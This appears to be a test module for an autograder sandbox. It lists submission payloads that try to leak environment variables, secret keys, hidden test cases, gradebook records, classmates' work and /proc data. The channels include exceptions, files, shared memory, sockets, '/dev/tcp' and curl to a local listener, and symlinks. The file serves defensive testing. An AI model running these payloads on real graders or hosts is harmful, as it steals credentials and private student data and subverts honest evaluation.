"""Leaks: what a submission must not learn of the course, the host and others, or not carry away."""

import functools
import importlib

from tests.range.attack import PHASE, code, files, save, solution
from tests.sample_course import cell

SHOW = """
import os
def dump(*places):
    for place in places:
        walk = os.walk(place) if os.path.isdir(place) else [(os.path.dirname(place), (), [os.path.basename(place)])]
        for folder, _, names in walk:
            for name in sorted(names)[:400]:
                try:
                    print(name, open(os.path.join(folder, name), "rb").read(40_000).decode("latin-1"))
                except OSError as error:
                    print(name, error)
"""

code(
    "leak",
    "environment",
    "the environment is printed",
    after="import os\nfor name, value in os.environ.items():\n    print(name, '=', value)",
)
code("leak", "home", "every file in the grader's home", after=SHOW + "dump(os.path.expanduser('~'), '@ROOT@/home')")
code("leak", "solutions", "the folder of the solutions", after=SHOW + "dump('@ROOT@/solutions')")
code(
    "leak",
    "hidden-cases",
    "the hidden cases, by file and by import",
    after=SHOW
    + "dump('@REPOSITORY@/autograde/hidden', '/course/autograde')\n"
    + "import autograde.hidden.phase2_attention as hidden, inspect\nprint(inspect.getsource(hidden), hidden.HIDDEN)",
    quick=True,
)
code("leak", "gradebook", "names and addresses in the gradebook", after=SHOW + "dump('@ROOT@/autograde/gradebook.db')")
code(
    "leak",
    "gradebook-asked",
    "the gradebook, by its own library",
    after="import sqlite3\nbook = sqlite3.connect('file:@ROOT@/autograde/gradebook.db?mode=ro', uri=True)\n"
    "print(book.execute('select * from student').fetchall())",
)
code(
    "leak", "secret-key", "the key that hidden cases are drawn from", after=SHOW + "dump('@ROOT@/autograde/secret.key')"
)
code(
    "leak",
    "classmates",
    "what the others wrote",
    after=SHOW + "dump('@ROOT@/autograde/submitted/z-full', '@ROOT@/autograde/autograded')",
)
code(
    "leak",
    "other-processes",
    "command lines and environments in /proc, memory of the parent",
    after="""
import os
for pid in [*os.listdir("/proc"), str(os.getppid()), "1"]:
    for what in ("environ", "cmdline", "mountinfo", "root/etc/hostname"):
        try:
            print(pid, open(f"/proc/{pid}/{what}", "rb").read())
        except OSError:
            pass
""",
)
code(
    "leak",
    "in-a-raised-error",
    "secrets travel in the text and the type of an exception, and in stderr",
    after=SHOW
    + """
import sys
found = [str(dict(os.environ))]
for name in ("home/.range-token", "autograde/secret.key", "solutions/@PHASE@/for-graders.md"):
    try:
        found.append(open("@ROOT@/" + name).read())
    except OSError:
        pass
sys.stderr.write(str(found))
raise type("Found" + "_".join(found)[:50], (Exception,), {})(*found)
""",
)
code(
    "leak",
    "left-in-a-file",
    "a submission reads what any other one left behind, and leaves something",
    after="""
import glob, os
for folder in ("/tmp", "/dev/shm", "/var/tmp", "/learner", os.path.expanduser("~"), os.getcwd()):
    for path in glob.glob(folder + "/*"):
        print(path, open(path).read(10_000) if os.path.isfile(path) else os.listdir(path))
    try:
        open(folder + "/@MARK@-left", "w").write("@MARK@")
    except OSError:
        pass
""",
)

# ---- the network -----------------------------------------------------------------------------------------------------

code(
    "leak",
    "tcp",
    "a connection to a listener on this machine",
    after="import os, socket\nline = socket.create_connection(('127.0.0.1', @TCP@), timeout=5)\n"
    "line.sendall(b'@MARK@ ' + str(dict(os.environ)).encode())",
    quick=True,
)
code(
    "leak",
    "udp",
    "a datagram, shaped like a DNS query",
    after="import socket\nhead, tail = b'\\x12\\x34\\x01' + bytes(9), b'\\x07example' + bytes(5)\n"
    "query = head + b'\\x0c@MARK@' + tail\n"
    "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, ('127.0.0.1', @UDP@))",
)
code(
    "leak",
    "abstract-socket",
    "an abstract unix socket, which no file system hides",
    after="import socket\nline = socket.socket(socket.AF_UNIX)\nline.connect('\\0@UNIX@')\nline.sendall(b'@MARK@')",
)
code(
    "leak",
    "every-interface",
    "connections to every address that this machine has",
    after="""
import socket
for address in ["127.0.0.1", "::1", "0.0.0.0", "localhost", socket.gethostname(), *socket.gethostbyname_ex("")[2]]:
    try:
        line = socket.create_connection((address, @TCP@), timeout=1)
        line.sendall(b"@MARK@")
    except OSError as error:
        print(address, error)
""",
)
code(
    "leak",
    "by-a-program",
    "other programs do the talking",
    after="!bash -c 'echo @MARK@ > /dev/tcp/127.0.0.1/@TCP@'\n!curl -s -m 3 http://127.0.0.1:@TCP@/@MARK@\n"
    "!python3 -c \"import urllib.request as u; u.urlopen('http://127.0.0.1:@TCP@/@MARK@', timeout=3)\"",
)

# ---- hidden inputs ---------------------------------------------------------------------------------------------------


@functools.cache
def hidden_only():
    """What a spy in sdpa would print of shapes that only hidden cases have."""
    from utils.checks import EXERCISES  # late: it imports torch
    from utils.checks.exercise import request_for

    exercise, hidden = EXERCISES["sdpa"], importlib.import_module(f"autograde.hidden.{PHASE}").HIDDEN["sdpa"]
    shapes = [
        {str(tuple(request_for(exercise, case, 0).calls[0]["args"]["k"].shape)) for case in cases}
        for cases in (exercise.visible, hidden)
    ]
    assert shapes[1] - shapes[0], "hidden cases of sdpa have no shapes of their own any more"
    return tuple(f"keys {shape}" for shape in shapes[1] - shapes[0])


SPY = """
right = sdpa
def sdpa(q, k, v, attn_mask=None):
    text = f"keys {tuple(k.shape)}"
"""
KNOWN = "    if text[5:] not in @HIDDEN@:\n        return right(q, k, v, attn_mask)\n"
LATER = "    return right(q, k, v, attn_mask)\n"


def _spy(name, goal, body, first="", others=None, **more):
    def answers():
        source = (
            cell(solution(), "sdpa-build").source
            + SPY
            + body.replace("@HIDDEN@", repr([text[5:] for text in hidden_only()]))
        )
        return {"sdpa": f"{first}\n{source}", **(others or {})}

    solved = ("masked_softmax", "attention_weights")
    code("leak", name, goal, answers=answers, secrets=hidden_only, solved=solved, free=("sdpa",), **more)


_spy("hidden-printed", "the function prints its inputs and fails", KNOWN + "    print(text, k)")
_spy(
    "hidden-raised",
    "an exception carries the inputs in its text and its name",
    KNOWN + "    raise type(text, (ValueError,), {})(text)",
    quick=True,
)
_spy("hidden-returned", "the inputs come back as the answer", KNOWN + "    return text")
TO_FILE = "    print(text, file=open('seen', 'a'))\n" + LATER
_spy(
    "hidden-through-a-file",
    "the function writes its inputs to a file, a later cell prints it",
    TO_FILE,
    then={"sdpa": "print(open('seen').read())"},
)
_spy(
    "hidden-through-memory",
    "the inputs go through memory shared with a later cell",
    "    shared.write(text.encode() + b' ')\n" + LATER,
    first="import mmap\nshared = mmap.mmap(-1, 65536)",
    then={"sdpa": "shared.seek(0)\nprint(shared.read().rstrip(b'\\0').decode())"},
)
_spy(
    "hidden-through-a-pipe",
    "the inputs wait in a pipe until the last cell",
    "    os.write(pipe[1], text.encode() + b' ')\n" + LATER,
    first="import os\npipe = os.pipe()\nos.set_blocking(pipe[0], False)",
    last="print(os.read(pipe[0], 65536).decode())",
)
_spy(
    "hidden-in-the-next-check",
    "other exercises print, return and raise what this one was asked",
    TO_FILE,
    others={
        "causal_mask": "def causal_mask(*sizes):\n    print(open('seen').read())\n    return open('seen').read()",
        "attention_cost": "def attention_cost(*sizes):\n    raise ValueError(open('seen').read().replace('\\n', ' '))",
    },
)

# ---- files that are links --------------------------------------------------------------------------------------------


@files("leak", "link-beside-the-notebook", "a link to a secret beside the notebook is copied to the student")
def _(folder, notebook, world, mark):
    (folder / "data.txt").symlink_to(f"{world.root}/home/.range-token")
    (folder / "more").symlink_to(f"{world.root}/solutions", target_is_directory=True)
    save(folder, notebook)
